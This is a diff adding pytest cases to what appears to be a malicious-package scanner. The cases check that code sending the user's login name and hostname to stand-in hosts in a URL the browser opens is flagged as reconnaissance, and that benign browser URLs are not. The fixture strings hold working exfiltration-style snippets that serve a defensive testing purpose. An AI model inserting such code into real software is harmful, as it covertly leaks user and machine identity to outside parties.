@@ -618,3 +618,43 @@ def test_a_stdlib_network_class_replaced_by_one_that_reports_nothing_is_not_a_th
     source: str,
 ) -> None:
     assert "CPL-THR-025" not in danger(source)
+
+
+# -- blind16: host details handed to the user's browser in a URL's query ----------------------
+
+BROWSER_SENT = [
+    "import getpass, socket, urllib.parse, webbrowser\n"
+    "q = urllib.parse.urlencode({'u': getpass.getuser(), 'h': socket.gethostname()})\n"
+    "webbrowser.open('https://docs.q.example/welcome?' + q, new=0, autoraise=False)\n",
+    "import os, platform, webbrowser\n"
+    "webbrowser.open_new_tab(f'https://t.example/p?n={platform.node()}&u={os.getlogin()}')\n",
+]
+
+
+@pytest.mark.parametrize("source", BROWSER_SENT)
+def test_host_details_in_a_url_the_browser_opens_are_reconnaissance_sent(source: str) -> None:
+    assert "CPL-THR-017" in danger(source, mode=ScanMode.PACKAGE)
+
+
+@pytest.mark.parametrize("source", BROWSER_SENT)
+def test_host_details_sent_by_the_browser_are_found_with_the_prefilter_too(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-017")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import webbrowser\nwebbrowser.open('https://docs.example.org/quickstart')\n",
+        # a local report, and a URL the caller chose
+        "import os, webbrowser\n"
+        "webbrowser.open('file://' + os.path.join(os.getcwd(), 'htmlcov', 'index.html'))\n",
+        "import socket, webbrowser\ndef show(url):\n    webbrowser.open(url)\n"
+        "print(socket.gethostname())\n",
+        # the local server this tool started, on this host's name
+        "import socket, webbrowser\nwebbrowser.open(f'http://{socket.gethostname()}:8888/tree')\n",
+    ],
+)
+def test_urls_the_browser_opens_that_carry_no_host_details_away_stay_clean(source: str) -> None:
+    assert "CPL-THR-017" not in danger(source, mode=ScanMode.PACKAGE)
